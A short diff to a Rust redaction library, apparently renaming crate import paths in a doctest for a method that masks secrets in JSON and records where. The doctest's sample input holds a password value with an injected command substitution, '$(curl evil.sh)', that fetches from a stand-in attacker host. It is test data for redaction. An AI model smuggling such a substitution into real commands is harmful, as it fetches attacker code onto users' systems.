@@ -67,7 +67,7 @@ impl Redactor {
     /// syntax.
     ///
     /// ```
-    /// # use hitl_base::{json::parse_json, Redactor, redact::MaskReason};
+    /// # use hitl::{json::parse_json, redact::{Redactor, MaskReason}};
     /// let call = parse_json(r#"{"auth": {"user": "ann"}, "run": "--password=\"x9$(curl evil.sh)\""}"#)?;
     /// let marked = Redactor::standard().redact_with_places(&call).unwrap();
     /// assert_eq!(
@@ -76,7 +76,7 @@ impl Redactor {
     /// );
     /// assert_eq!(marked.places[0].pointer, "/auth/user");
     /// assert_eq!((marked.places[2].reason, marked.places[2].characters()), (MaskReason::Name, 12));
-    /// # Ok::<(), hitl_base::json::ParseJsonError>(())
+    /// # Ok::<(), hitl::json::ParseJsonError>(())
     /// ```
     pub fn redact_with_places(&self, tree: &Json) -> Option<RedactedJson> {
         let recorder = Arc::new(Recorder::new(tree));
